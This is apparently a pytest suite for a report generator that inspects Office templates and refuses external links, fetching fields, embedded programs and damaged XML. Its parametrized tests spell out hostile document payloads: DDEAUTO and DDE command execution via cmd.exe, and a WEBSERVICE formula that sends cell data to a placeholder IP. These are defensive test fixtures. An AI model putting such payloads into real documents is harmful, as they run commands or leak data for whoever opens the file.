"""Templates of strangers: what is damaged is named, what leads out of the report is refused, nothing crashes."""

from __future__ import annotations

import base64
import contextlib
import random
import re
from pathlib import Path
from typing import TYPE_CHECKING

import openpyxl
import pytest
from authoring.workbook import scaffold_workbook
from docx.shared import Cm
from lxml import etree

from excel_examples import by_function
from reportgen import office
from reportgen.app.pipeline import render
from reportgen.diagnostics import Diagnostic, ReportgenError, Severity
from reportgen.excel.prepare import inspect_workbook
from reportgen.libreoffice.pdf import read_pages
from reportgen.libreoffice.process import LibreOffice
from reportgen.word.prepare import inspect_document
from word_examples import add_caption, add_field, blank, lines, rendered, saved

if TYPE_CHECKING:
    from collections.abc import Callable

    from lxml.etree import _Element as Element

CASES = Path(__file__).parent / "cases" / "faults"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PIXEL = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)


@pytest.fixture(scope="module")
def document(tmp_path_factory: pytest.TempPathFactory) -> dict[str, bytes]:
    """The parts of a Word template with a bit of everything."""
    folder = tmp_path_factory.mktemp("word")
    made = blank()
    add_field(made.add_paragraph(), 'TOC \\o "1-3" \\h \\z \\u')
    made.add_heading("概况", 1)
    lines(made, "{{ year }}年度", "{%p if year %}", "有", "{%p endif %}")
    add_caption(made, "收入", "收入图")
    add_field(made.add_paragraph(), "REF 收入图 \\h")
    table = made.add_table(2, 3)
    table.cell(0, 0).merge(table.cell(0, 1)).text = "{{ year }}"
    picture = folder / "章.png"
    picture.write_bytes(PIXEL)
    made.add_picture(str(picture), width=Cm(2))
    made.sections[0].footer.paragraphs[0].text = "{{ year }}"
    return office.read_package(saved(made, folder)).parts


@pytest.fixture(scope="module")
def workbook(tmp_path_factory: pytest.TempPathFactory) -> dict[str, bytes]:
    """The parts of a workbook template."""
    path = tmp_path_factory.mktemp("excel") / "模板.xlsx"
    scaffold_workbook([by_function()], path)
    book = openpyxl.load_workbook(path)
    book.create_sheet("汇总")["A1"] = "=Z98+Z99"
    book.save(path)
    return office.read_package(path).parts


def written(parts: dict[str, bytes], folder: Path, kind: str = "docx") -> Path:
    path = folder / f"模板.{kind}"
    path.write_bytes(office.write_package(parts))
    return path


def related(parts: dict[str, bytes], part: str, kind: str, target: str, *, external: bool = True) -> dict[str, bytes]:
    """The parts with one relationship more."""
    name = office.relationships_name(part)
    empty = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
    mode = ' TargetMode="External"' if external else ""
    entry = f'<Relationship Id="rIdNew" Type="{OFFICE}/{kind}" Target="{target}"{mode}/></Relationships>'
    return {**parts, name: parts.get(name, empty).replace(b"</Relationships>", entry.encode())}


def found(parts: dict[str, bytes], folder: Path) -> list[Diagnostic]:
    return inspect_document(written(parts, folder))[1]


def found_in_workbook(parts: dict[str, bytes], folder: Path) -> tuple[Diagnostic, ...]:
    columns = {"收入决算表": [column.key for column in by_function().columns]}
    return inspect_workbook(written(parts, folder, "xlsx"), columns).findings


class TestLeadingOutside:
    @pytest.mark.parametrize(
        ("kind", "target"),
        [
            ("image", "http://192.0.2.1/seal.png"),
            ("image", "file:///D:/2023/章.png"),
            ("oleObject", "file:///D:/2023/表.xlsx"),
            ("subDocument", "第二部分.docx"),
            ("frame", "http://192.0.2.1/a.htm"),
            ("video", "\\\\srv\\share\\a.mp4"),
        ],
    )
    def test_what_the_reader_would_fetch_is_refused(
        self, kind: str, target: str, document: dict[str, bytes], tmp_path: Path
    ) -> None:
        (finding,) = found(related(document, "word/document.xml", kind, target), tmp_path)
        assert finding.code == "RG616"
        assert target in finding.message

    @pytest.mark.parametrize(
        "instruction",
        [
            'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"',
            "dde Excel 表 R1C1",
            'INCLUDETEXT "D:\\\\2023\\\\说明.docx"',
            'INCLUDEPICTURE "http://192.0.2.1/a.png" \\d',
            "LINK Excel.Sheet.12 D:\\\\表.xlsx",
            'DATABASE \\d "D:\\\\a.mdb"',
        ],
    )
    def test_a_field_that_fetches_is_refused(self, instruction: str, tmp_path: Path) -> None:
        template = blank()
        add_field(template.add_paragraph(), instruction)
        (finding,) = inspect_document(saved(template, tmp_path))[1]
        assert finding.code == "RG616"
        assert str(finding.at).endswith("正文 第1段")

    @pytest.mark.parametrize(
        ("source", "kind", "target"),
        [
            ("word/document.xml", "oleObject", "embeddings/a.bin"),
            ("word/document.xml", "package", "embeddings/a.bin"),
            ("word/document.xml", "aFChunk", "embeddings/a.bin"),
            ("word/document.xml", "control", "embeddings/a.bin"),
            ("word/document.xml", "vbaProject", "embeddings/a.bin"),
            ("", "webextensiontaskpanes", "word/embeddings/a.bin"),
        ],
    )
    def test_programs_and_files_within_the_file_are_refused(
        self, source: str, kind: str, target: str, document: dict[str, bytes], tmp_path: Path
    ) -> None:
        parts = related({**document, "word/embeddings/a.bin": b"\1"}, source, kind, target, external=False)
        (finding,) = found(parts, tmp_path)
        assert finding.code == "RG617"

    def test_what_nothing_leads_to_is_not_published(self, document: dict[str, bytes], tmp_path: Path) -> None:
        path = written({**document, "word/vbaProject.bin": b"\1"}, tmp_path)
        assert "word/vbaProject.bin" not in office.parse_package(rendered(path, {"year": 2024}), "")

    @pytest.mark.parametrize("target", ["file:///D:/2023/附件.xlsx", "附件.docx", "\\\\srv\\决算\\a.xlsx"])
    def test_a_link_that_is_no_page_is_told_and_kept(
        self, target: str, document: dict[str, bytes], tmp_path: Path
    ) -> None:
        (finding,) = found(related(document, "word/document.xml", "hyperlink", target), tmp_path)
        assert (finding.code, finding.severity) == ("RG618", Severity.WARNING)

    @pytest.mark.parametrize("target", ["https://www.mof.gov.cn/", "http://a.cn/b", "mailto:a@b.cn", "#图1"])
    def test_links_to_pages_are_what_they_are(self, target: str, document: dict[str, bytes], tmp_path: Path) -> None:
        assert found(related(document, "word/document.xml", "hyperlink", target), tmp_path) == []

    @pytest.mark.parametrize(
        "formula",
        ['WEBSERVICE("http://192.0.2.1/?"&amp;A1)', "_xlfn.WEBSERVICE(A1)", "cmd|'/c calc'!A1", 'RTD("a",,"b")'],
    )
    def test_a_formula_that_fetches_is_refused(self, formula: str, workbook: dict[str, bytes], tmp_path: Path) -> None:
        sheet = next(part for part, content in workbook.items() if b"Z98+Z99" in content)
        changed = workbook[sheet].replace(b"Z98+Z99", formula.encode())
        assert "RG616" in {each.code for each in found_in_workbook({**workbook, sheet: changed}, tmp_path)}

    def test_formulas_may_name_what_they_do_not_call(self, workbook: dict[str, bytes], tmp_path: Path) -> None:
        sheet = next(part for part, content in workbook.items() if b"Z98+Z99" in content)
        changed = workbook[sheet].replace(b"Z98+Z99", b'"WEBSERVICE(1) a|b!c"&amp;HYPERLINK("http://a.cn")')
        assert found_in_workbook({**workbook, sheet: changed}, tmp_path) == ()

    def test_a_data_connection_of_a_workbook_is_refused(self, workbook: dict[str, bytes], tmp_path: Path) -> None:
        parts = {**workbook, "xl/connections.xml": b"<connections/>"}
        parts = related(parts, "xl/workbook.xml", "connections", "connections.xml", external=False)
        assert "RG617" in {each.code for each in found_in_workbook(parts, tmp_path)}

    def test_the_case_of_a_linked_picture(self) -> None:
        with pytest.raises(ReportgenError, match="RG616"):
            rendered(CASES / "rel_image_http" / "report.docx", {})

    def test_libreoffice_does_not_open_linked_pictures(
        self, document: dict[str, bytes], libreoffice: str, tmp_path: Path
    ) -> None:
        """A picture beside the document stands for one anywhere: both are links, and links are not followed."""
        (tmp_path / "章.png").write_bytes(PIXEL)
        part = "word/_rels/document.xml.rels"
        linked = (tmp_path / "章.png").as_uri().encode() + b'" TargetMode="External'
        parts = {**document, part: document[part].replace(b"media/image1.png", linked)}
        parts["word/document.xml"] = document["word/document.xml"].replace(b"r:embed=", b"r:link=")
        with LibreOffice(libreoffice) as program:
            embedded, link = program.to_pdf([office.write_package(document), office.write_package(parts)])
        assert read_pages(link)
        assert b"/Image" in embedded
        assert b"/Image" not in link


class TestDamage:
    def test_the_case_of_a_truncated_part(self) -> None:
        with pytest.raises(ReportgenError, match="RG713"):
            inspect_document(CASES / "xml_truncated" / "report.docx")

    def test_the_case_of_a_name_with_control_characters(self) -> None:
        with pytest.raises(ReportgenError, match="RG714") as caught:
            inspect_document(CASES / "zip_control_name" / "report.docx")
        assert caught.value.findings[0].message.isprintable()

    def test_the_case_of_the_end_of_a_cdata_section(self, tmp_path: Path) -> None:
        done = render([CASES / "cdata-end.yaml"], output=tmp_path)
        assert len(done.outputs) == len(("docx", "xlsx"))
        for output in done.outputs:
            for name, content in office.parse_package(Path(output).read_bytes(), "").items():
                if name.endswith((".xml", ".rels")):
                    office.parse_xml(content)

    @pytest.mark.parametrize(
        ("before", "after"),
        [
            (b'w:w="12240"', b'w:w="wide"'),
            (b'w:gridSpan w:val="2"', b'w:gridSpan w:val="abc"'),
            (b"<wp:extent cx=", b'<wp:extent cy="1" cx="a'),
        ],
    )
    def test_a_measure_that_is_none_is_named(
        self, before: bytes, after: bytes, document: dict[str, bytes], tmp_path: Path
    ) -> None:
        assert before in document["word/document.xml"]
        changed = document["word/document.xml"].replace(before, after)
        if after.startswith(b"<wp:extent"):
            changed = changed.replace(b' cy="1" cx="a', b' cx="a')
        with pytest.raises(ReportgenError, match=r"RG713.*document.xml"):
            found({**document, "word/document.xml": changed}, tmp_path)

    def test_measures_with_units_and_fractions_are_read(self, document: dict[str, bytes], tmp_path: Path) -> None:
        changed = document["word/document.xml"].replace(b'w:w="12240"', b'w:w="21.59cm"')
        assert found({**document, "word/document.xml": changed}, tmp_path) == []

    @pytest.mark.parametrize(
        ("before", "after"),
        [(b'ref="A1:', b'ref="XYZ'), (b'r="A1"', b'r="1A"'), (b'<sz val="', b'<sz val="x'), (b'width="', b'width="b')],
    )
    def test_an_address_or_a_number_of_a_workbook_that_is_none_is_named(
        self, before: bytes, after: bytes, workbook: dict[str, bytes], tmp_path: Path
    ) -> None:
        assert any(before in content for content in workbook.values())
        with pytest.raises(ReportgenError, match="RG713"):
            found_in_workbook({part: text.replace(before, after) for part, text in workbook.items()}, tmp_path)

    def test_rows_and_cells_without_addresses_are_where_they_follow(
        self, workbook: dict[str, bytes], tmp_path: Path
    ) -> None:
        plain = {part: re.sub(rb' r="[A-Z]*[0-9]+"', b"", text) for part, text in workbook.items()}
        assert plain != workbook
        assert found_in_workbook(plain, tmp_path) == found_in_workbook(workbook, tmp_path)

    def test_a_merged_range_without_address_is_named(self, workbook: dict[str, bytes], tmp_path: Path) -> None:
        with pytest.raises(ReportgenError, match="RG713"):
            found_in_workbook(
                {part: re.sub(rb' ref="A1:[^"]*"', b"", text) for part, text in workbook.items()}, tmp_path
            )

    @pytest.mark.parametrize("seed", range(3))
    def test_no_damage_ends_in_a_traceback(
        self, seed: int, document: dict[str, bytes], workbook: dict[str, bytes], tmp_path: Path
    ) -> None:
        """Whatever is changed in a template, there is a finding, or a report whose parts are all sound."""
        chance = random.Random(seed)  # noqa: S311 - no secret
        for _ in range(12):
            with contextlib.suppress(ReportgenError):
                report = rendered(written(damaged(document, chance), tmp_path), {"year": 2024})
                for name, content in office.parse_package(report, "").items():
                    if name.endswith((".xml", ".rels")):
                        office.parse_xml(content)
            with contextlib.suppress(ReportgenError):
                found_in_workbook(damaged(workbook, chance), tmp_path)


BAD_VALUES = ("abc", "", "-1", "9" * 5000, "1.5", "1e999", " ", "XYZ", "A0", "rId9999")


def damaged(parts: dict[str, bytes], chance: random.Random) -> dict[str, bytes]:
    """The parts with one of them damaged."""
    name = chance.choice([part for part in parts if part.endswith((".xml", ".rels"))])
    content = parts[name]
    bytewise: list[Callable[[], bytes]] = [
        lambda: content[: chance.randrange(len(content))],
        lambda: b"",
        lambda: content.decode().encode("utf-16"),
        lambda: content.decode().encode("utf-32"),
        lambda: content.decode().encode("cp037", "replace"),
    ]
    if chance.random() < 0.1:
        return {**parts, name: chance.choice(bytewise)()}
    root = office.parse_xml(content)
    elements = [element for element in root.iter("*") if element is not root]
    if elements:
        element = chance.choice(elements)
        chance.choice([_spoil_value, _drop_value, _drop, _hollow, _retext])(element, root, chance)
    return {**parts, name: etree.tostring(root, xml_declaration=True, encoding="UTF-8", standalone=True)}


def _spoil_value(element: Element, root: Element, chance: random.Random) -> None:
    for key in list(element.attrib):
        value = chance.choice(BAD_VALUES)
        for each in root.iter(element.tag):
            each.set(str(key), value)


def _drop_value(element: Element, root: Element, chance: random.Random) -> None:
    for each in root.iter(element.tag):
        each.attrib.clear()
    assert chance


def _drop(element: Element, root: Element, chance: random.Random) -> None:
    for each in list(root.iter(element.tag)) if chance.random() < 0.5 else [element]:
        parent = each.getparent()
        if parent is not None:
            parent.remove(each)


def _hollow(element: Element, root: Element, chance: random.Random) -> None:
    element[:] = []
    assert root is not element
    assert chance


def _retext(element: Element, root: Element, chance: random.Random) -> None:
    element.text = chance.choice(BAD_VALUES)
    assert root is not element
